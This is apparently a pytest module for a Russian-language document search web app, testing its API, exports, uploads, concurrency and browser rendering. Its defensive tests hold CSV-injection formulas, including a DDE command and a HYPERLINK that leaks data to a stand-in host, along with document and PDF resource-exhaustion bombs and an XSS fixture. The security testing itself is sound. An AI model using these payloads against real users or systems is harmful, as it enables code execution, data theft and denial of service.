"""The search page, served for real: its API through gradio_client, concurrent use, and a real browser.

One server per module (`praktika serve` in a subprocess, on loopback) over a copy of the
corpus knowledge base. The browser is Debian's Chromium driven by Playwright.
"""

from __future__ import annotations

import shutil
import socket
import subprocess
import sys
import time
import urllib.request
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from gradio_client import Client, handle_file

from app import words
from index.kb import KnowledgeBase
from tests.conftest import FIXTURES, ROOT

ARTIFACTS = ROOT / "tests" / "artifacts"
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
HOSTILE = FIXTURES / "hostile_roadmap.txt"


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


@pytest.fixture(scope="module")
def server(corpus_kb_dir, tmp_path_factory):
    kb_dir = shutil.copytree(corpus_kb_dir, tmp_path_factory.mktemp("web") / "kb")
    port = _free_port()
    log = open(tmp_path_factory.mktemp("log") / "serve.log", "w+")
    proc = subprocess.Popen(
        [sys.executable, "-m", "app.cli", "serve", "--kb", str(kb_dir), "--port", str(port)],
        cwd=ROOT,
        stdout=log,
        stderr=subprocess.STDOUT,
    )
    url = f"http://127.0.0.1:{port}/"
    deadline = time.monotonic() + 180
    while time.monotonic() < deadline:
        try:
            urllib.request.urlopen(url, timeout=2)
            break
        except OSError:
            if proc.poll() is not None:
                break
            time.sleep(0.5)
    else:
        proc.kill()
    if proc.poll() is not None:
        log.seek(0)
        pytest.fail(f"server did not start:\n{log.read()[-3000:]}")
    yield {"url": url, "kb": Path(kb_dir), "proc": proc}
    proc.terminate()
    proc.wait(timeout=30)
    log.close()


@pytest.fixture(scope="module")
def client(server):
    return Client(server["url"], verbose=False)


def test_binds_to_loopback_only(server):
    port = int(server["url"].rsplit(":", 1)[1].strip("/"))
    out = subprocess.run(["ss", "-ltnH"], capture_output=True, text=True).stdout if shutil.which("ss") else ""
    listening = [line.split()[3] for line in out.splitlines() if line.split()[3].endswith(f":{port}")]
    if listening:  # `ss` may be missing on a minimal machine; the address check below still runs
        assert all(addr.startswith("127.0.0.1") for addr in listening), listening
    host = socket.gethostbyname(socket.gethostname())
    if host != "127.0.0.1":
        with pytest.raises(OSError), socket.create_connection((host, port), timeout=2):
            pass


def test_api_search_with_filter(client):
    status, hits = client.predict(
        "сетевое партнёрство школ", "Оренбургская область", "", "", "", "", "", "", 5, api_name="/search"
    )
    assert status == f"Найдено: {len(hits)}" and 0 < len(hits) <= 5
    assert all("path" not in h["document"] for h in hits)  # server paths stay on the server
    assert {h["document"]["region"] for h in hits} == {"Оренбургская область"}
    assert any("партнерство" in h["matched_terms"] for h in hits)


def test_api_similar_and_document(client, server):
    _, hits = client.predict("сетевое партнёрство школ", "", "", "", "", "", "", "", 3, api_name="/search")
    first = hits[0]
    html, similar = client.predict(first["item_id"], True, api_name="/similar")
    assert similar and "других регионов" in html
    assert all(h["document"]["region"] != first["document"]["region"] for h in similar)
    page = client.predict(first["item_id"], api_name="/document")
    items = KnowledgeBase.open(server["kb"]).items().query(f"doc_id == {first['document']['id']}")
    assert 'id="doc-focus"' in page and page.count("<tr") == 1 + len(items)
    _, nothing = client.predict("  ", "", "", "", "", "", "", "", 5, api_name="/search")
    assert nothing == []


def test_api_ask(client):
    html, data = client.predict("Кто отвечает за мониторинг в Дорогобужском районе?", "", api_name="/ask")
    assert data["found"] and data["asks"] == "who" and "Сотрудники МОЦ" in data["text"]
    assert len(data["citations"]) == len(data["hits"]) >= 1
    assert "Источники" in html and "000_" in html


def test_api_export(client):
    _, hits = client.predict("наставничество", "", "", "", "", "", "", "", 4, api_name="/search")
    csv_path = client.predict(hits, api_name="/export_csv")
    text = Path(csv_path).read_text(encoding="utf-8-sig")
    assert text.splitlines()[0].startswith("№,Мероприятие") and len(text.splitlines()) >= len(hits) + 1
    import pandas as pd

    xlsx = pd.read_excel(client.predict(hits, api_name="/export_xlsx"))
    assert list(xlsx["Мероприятие"]) == [h["item"]["activity"] for h in hits]


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1, "отчёт")',
    "+1+2",
    "-2+3",
    "@SUM(1, 2)",
]


def test_exports_hold_no_live_formula(client, tmp_path):
    """OWASP CSV injection: cells from a hostile document never start with = + - @ tab or CR in an export."""
    rows = "\n".join(
        f"{n}\tКвиз по финансовой грамотности {n} для школ Калужской области\t{cell}\tмай 2022\t{cell}\t{cell}"
        for n, cell in enumerate(FORMULAS, start=1)
    )
    order = HOSTILE.read_text(encoding="utf-8").split("№\tМероприятие")[0].replace("Тверской", "Калужской")
    path = tmp_path / "формулы.txt"
    path.write_text(order + "№\tМероприятие\tОписание\tСроки\tОтветственный\tРезультат\n" + rows, encoding="utf-8")
    table, _ = client.predict([handle_file(str(path))], api_name="/ingest")
    assert table["data"][0][1] == "добавлен" and table["data"][0][2] >= len(FORMULAS)
    query = "квиз по финансовой грамотности для школ Калужской области"
    _, hits = client.predict(query, "", "", "", "", "", "", "", 10, api_name="/search")
    hits = [h for h in hits if h["document"]["source"] == "формулы.txt"]
    assert len(hits) >= len(FORMULAS) and any(h["item"]["description"] == FORMULAS[0] for h in hits)

    import csv

    import openpyxl

    with open(client.predict(hits, api_name="/export_csv"), encoding="utf-8-sig", newline="") as f:
        cells = [c for row in csv.reader(f) for c in row]
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[1] in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    sheet = openpyxl.load_workbook(client.predict(hits, api_name="/export_xlsx")).active
    xlsx = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in xlsx if c.data_type == "f"]
    assert not [c.value for c in xlsx if isinstance(c.value, str) and c.value[:1] in ("=", "+", "-", "@")]
    assert "'" + FORMULAS[2] in {c.value for c in xlsx}


def test_hostile_uploads_fail_fast_and_the_page_stays_responsive(client, server, tmp_path):
    """Bombs are parsed in the bounded worker, off the server's threads: searches go on meanwhile."""
    import io
    import zipfile

    from tests import fuzz

    def docx(edit) -> bytes:
        base = zipfile.ZipFile(FIXTURES / "roadmap_001.docx")
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            for n in base.namelist():
                z.writestr(n, edit(base.read(n)) if n == "word/document.xml" else base.read(n))
        return buf.getvalue()

    bombs = {
        "glyphs.pdf": fuzz.glyph_bomb(),  # ~20 KB, millions of glyphs
        "span.docx": docx(lambda x: x.replace(b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="2000000000"/>')),
        # 10 million empty paragraphs: a one-thread worker reads 5 million within its ceiling
        "empty.docx": docx(lambda x: x.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 10_000_000, 1)),
        "runs.txt": ("Приказ\n1\tСеминар " + "«»()*" * 16_000 + "\tмарт 2022\tОтдел образования\n").encode(),
    }
    for name, data in bombs.items():
        (tmp_path / name).write_bytes(data)
    with ThreadPoolExecutor(max_workers=1) as pool:
        upload = pool.submit(client.predict, [handle_file(str(tmp_path / n)) for n in bombs], api_name="/ingest")
        waits = []
        while not upload.done():
            start = time.monotonic()
            client.predict("наставничество", "", "", "", "", "", "", "", 3, api_name="/search")
            waits.append(time.monotonic() - start)
        table, _ = upload.result(timeout=600)
    rows = {r[0]: r for r in table["data"]}
    assert rows["glyphs.pdf"][1] == "ОШИБКА" and "превышен предел" in rows["glyphs.pdf"][3]
    assert rows["empty.docx"][1] == "ОШИБКА" and "памяти" in rows["empty.docx"][3]
    assert rows["span.docx"][1] == rows["runs.txt"][1] == "добавлен"
    assert waits and max(waits) < 10, waits  # before the worker, one such upload froze the page for minutes


def test_same_name_uploads_are_kept_apart_unless_replacing(client, server, tmp_path):
    from tests.test_reliability import ORDER

    path = tmp_path / "план.txt"
    rows = []
    for tag, replacing in (("Белёвского района", False), ("Одоевского района", False), ("Суворовского района", True)):
        path.write_text(ORDER.format(tag=tag), encoding="utf-8")
        table, _ = client.predict([handle_file(str(path))], replacing, api_name="/ingest")
        rows.append(table["data"][0])
    assert [r[1] for r in rows] == ["добавлен", "добавлен", "обновлён"]
    assert "сохранены оба" in rows[1][3]
    stored = KnowledgeBase.open(server["kb"]).documents().query("source == 'план.txt'")
    assert len(stored) == 2  # the second upload kept apart, the third replaced the first


def test_cli_writes_under_a_running_server(client, server, tmp_path):
    """The server catches up with a CLI ingest and remove (the generation stamp), and its own
    later upload writes the vector file from SQLite, not from a stale copy."""
    from tests.test_reliability import ORDER, cli, trusted

    path = tmp_path / "кимовский.txt"
    path.write_text(ORDER.format(tag="Кимовского района"), encoding="utf-8")
    assert cli("ingest", str(path), "--kb", str(server["kb"])).returncode == 0
    query = "аудит рисковых профилей школ Кимовского района"
    _, hits = client.predict(query, "", "", "", "", "", "", "", 20, api_name="/search")
    mine = [h for h in hits if h["document"]["source"] == "кимовский.txt"]
    assert len(mine) >= 3 and all(h["dense_rank"] for h in mine)  # the server's vectors caught up too
    assert cli("remove", "кимовский.txt", "--kb", str(server["kb"])).returncode == 0
    for h in hits[:10] * 2:  # «похожие» on every hit, the removed ones included: never a server error
        _, similar = client.predict(h["item_id"], False, api_name="/similar")
        assert all(s["document"]["source"] != "кимовский.txt" for s in similar)
    path.write_text(ORDER.format(tag="Богородицкого района"), encoding="utf-8")
    table, _ = client.predict([handle_file(str(path))], False, api_name="/ingest")
    assert table["data"][0][1] == "добавлен"
    trusted(server["kb"]).close()


def test_api_ingest_reports_each_file(client, server, tmp_path):
    good = tmp_path / "новый приказ.txt"
    good.write_text(HOSTILE.read_text(encoding="utf-8").replace("Тверской", "Тульской"), encoding="utf-8")
    junk = tmp_path / "scan.pdf"
    junk.write_bytes(b"%PDF-1.4\n\x00\xff garbage")
    exe = tmp_path / "tool.exe"
    exe.write_bytes(b"MZ\x90\x00")
    from tests.test_cli import UNPLACED

    partial = tmp_path / "план.txt"
    partial.write_text(UNPLACED.replace("Семинар", "Вебинар"), encoding="utf-8")
    files = [handle_file(str(p)) for p in (good, junk, exe, partial)]
    table, status = client.predict(files, api_name="/ingest")
    rows = {r[0]: r for r in table["data"]}
    assert rows["план.txt"][1] == "добавлен" and rows["план.txt"][3].startswith("ПРЕДУПРЕЖДЕНИЕ: размещено")
    assert rows["новый приказ.txt"][1] == "добавлен" and rows["новый приказ.txt"][2] == 3
    assert rows["scan.pdf"][1] == "ОШИБКА" and rows["scan.pdf"][3]
    assert rows["tool.exe"][1] == "ОШИБКА" and "формат" in rows["tool.exe"][3]
    again, _ = client.predict([handle_file(str(good))], api_name="/ingest")
    assert again["data"][0][1] == "без изменений"
    kb = KnowledgeBase.open(server["kb"])
    s = kb.stats()
    assert kb.check() == [] and status.startswith(f"В базе: {words.documents(s.documents)}, {words.items(s.items)}.")
    # The report under the table, escaped: the same as `praktika ingest` prints.
    assert "Итог приёма: 4 файла, сохранено" in status
    assert "повреждённый или обрезанный PDF: 1 файл (scan.pdf)" in status
    assert "неподдерживаемый формат: 1 файл (tool.exe)" in status and "<pre>" in status
    assert kb.store.document_id("upload/новый приказ.txt") is not None  # a key, not a place on disk
    *_, line = client.predict(api_name="/overview")  # cached figures are recomputed after a change
    assert f"пунктов: {kb.stats().items}" in line


def test_api_overview(client):
    by_region, _, months, top, line = client.predict(api_name="/overview")
    regions = {row[0] for row in by_region["data"]}
    assert {"Смоленская область", "Оренбургская область", "Московская область"} <= regions
    assert months["data"] and top["data"] and line.startswith("Документов:")


def test_twenty_clients_search_while_ingesting(server, tmp_path):
    """No errors, and afterwards every item exactly once."""
    before = KnowledgeBase.open(server["kb"]).stats().items
    inbox = []
    for n, region in enumerate(("Псковской", "Курской", "Орловской")):
        p = tmp_path / f"order{n}.txt"
        p.write_text(HOSTILE.read_text(encoding="utf-8").replace("Тверской", region), encoding="utf-8")
        inbox.append(p)
    queries = ["сетевое партнёрство", "наставничество", "мониторинг качества", "семинар для директоров"]

    def searcher(n: int) -> int:
        c = Client(server["url"], verbose=False)
        done = 0
        for q in queries:
            status, hits = c.predict(q, "", "", "", "", "", "", "", 5, api_name="/search")
            assert status.startswith("Найдено") and hits
            done += 1
        return done

    def ingester() -> list:
        c = Client(server["url"], verbose=False)
        table, _ = c.predict([handle_file(str(p)) for p in inbox], api_name="/ingest")
        return table["data"]

    with ThreadPoolExecutor(max_workers=21) as pool:
        ingest = pool.submit(ingester)
        searches = [pool.submit(searcher, n) for n in range(20)]
        assert [f.result(timeout=300) for f in searches] == [len(queries)] * 20
        assert [row[1] for row in ingest.result(timeout=300)] == ["добавлен"] * 3
    kb = KnowledgeBase.open(server["kb"])
    stats = kb.stats()
    assert stats.problems == () and stats.items == before + 3 * 3
    assert stats.vectors == stats.items


# --- a real browser ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright

    assert Path(CHROMIUM).exists(), "Debian's chromium is missing: run `make setup`"
    ARTIFACTS.mkdir(exist_ok=True)
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS, headless=True)
        yield b
        b.close()


def test_browser_search_filter_similar_ask_upload_and_no_script_runs(server, browser):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    dialogs, errors = [], []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(server["url"])
    page.set_default_timeout(60_000)

    # search with a region filter
    page.get_by_label("Запрос").fill("сетевое партнёрство школ")
    page.get_by_label("Регион", exact=True).click()
    page.get_by_role("option", name="Оренбургская область").click()
    page.get_by_role("button", name="Найти").click()
    page.wait_for_selector(".card")
    lines = page.locator(".card .doc").all_inner_texts()
    assert lines and all("Оренбургская область" in line for line in lines)
    page.screenshot(path=str(ARTIFACTS / "1-search.png"))

    # «Похожие практики» of the first card: other documents only
    source = lines[0].split(" · ")[-2]
    page.locator(".similar-btn").first.click()
    page.wait_for_selector("#side-panel .card")
    similar = page.locator("#side-panel .card .doc").all_inner_texts()
    assert similar and all(source not in line for line in similar)
    page.locator(".open-btn").first.click()
    page.wait_for_selector("#side-panel #doc-focus")
    page.screenshot(path=str(ARTIFACTS / "2-document.png"))

    # a question
    page.get_by_role("tab", name="Вопрос").click()
    page.get_by_label("Вопрос", exact=True).fill("Кто отвечает за мониторинг в Дорогобужском районе?")
    page.get_by_role("button", name="Спросить").click()
    page.wait_for_selector("#answer .answer")
    assert "Сотрудники МОЦ" in page.locator("#answer .answer").inner_text()
    assert page.locator("#answer ul.cites li").count() >= 1
    page.screenshot(path=str(ARTIFACTS / "3-question.png"))

    # upload the hostile document
    page.get_by_role("tab", name="Загрузка").click()
    page.locator("input[type=file][multiple]").set_input_files(str(HOSTILE))
    page.get_by_role("button", name="Загрузить в базу").click()
    page.get_by_test_id("cell-0-1").get_by_text("добавлен").wait_for()
    page.screenshot(path=str(ARTIFACTS / "4-upload.png"))

    # its cells are shown as text, nothing in them runs
    page.get_by_role("tab", name="Поиск").click()
    page.get_by_label("Регион", exact=True).click()
    page.get_by_role("option", name="Тверская область").click()  # the filter choices grew without a restart
    page.get_by_label("Запрос").fill("семинар для директоров по антирисковым программам")
    page.get_by_role("button", name="Найти").click()
    page.wait_for_selector(".card >> text=<script>")
    cards = page.locator(".card")
    assert "onerror" in cards.first.inner_text() and "javascript:" in cards.first.inner_text()
    assert page.locator(".card script, .card img, .card a[href^='javascript'], .card [onmouseover]").count() == 0
    # earlier tests stored copies of the same text (their region kept by its title): open this file's card
    n = next(i for i, text in enumerate(cards.all_inner_texts()) if "hostile_roadmap.txt" in text)
    cards.nth(n).hover()
    page.locator(".open-btn").nth(n).click()
    page.wait_for_selector("#side-panel >> text=hostile_roadmap.txt")
    page.wait_for_selector("#side-panel #doc-focus")
    assert page.locator("#side-panel script, #side-panel img").count() == 0
    page.screenshot(path=str(ARTIFACTS / "5-hostile.png"))
    assert page.evaluate("window.xss") is None and dialogs == []
    assert errors == []
    page.close()


def test_upload_tab_takes_scans_office_files_and_web_pages(client, tmp_path):
    """Every format of issue 15 through the page: a scan (OCR), an .odt, a saved page."""
    from app import views
    from index.results import Hit
    from tests.conftest import FIXTURES

    files = [FIXTURES / "roadmap_004_scan.pdf", FIXTURES / "roadmap_001.odt"]
    files.append(FIXTURES / "html" / "medvezhyegorsk_plan.html")
    table, _ = client.predict([handle_file(str(p)) for p in files], api_name="/ingest")
    assert [(r[0], r[1]) for r in table["data"]] == [(p.name, "добавлен") for p in files]
    assert [r[2] for r in table["data"]] == [14, 16, 5]
    _, hits = client.predict("план-график Медвежьегорского района семинар формирующее оценивание", "", "", "", "",
                                "", "", "", 5, api_name="/search")  # fmt: skip
    mine = [h for h in hits if h["document"]["source"] == "medvezhyegorsk_plan.html"]
    assert mine and mine[0]["document"]["url"] == "https://obrazovanie-medgora.edusite.ru/p403aa1.html"
    assert 'href="https://obrazovanie-medgora.edusite.ru/p403aa1.html"' in views.card(Hit.from_data(mine[0]), 1)
    _, hits = client.predict("анкетирование школ-участников для рискового профиля", "", "", "", "", "", "", "", 5,
                                api_name="/search")  # fmt: skip
    scanned = [h for h in hits if h["document"]["source"] == "roadmap_004_scan.pdf"]
    assert scanned and scanned[0]["item"]["pos"]["ocr"] >= 80
    assert "Распознано со скана" in views.card(Hit.from_data(scanned[0]), 1)
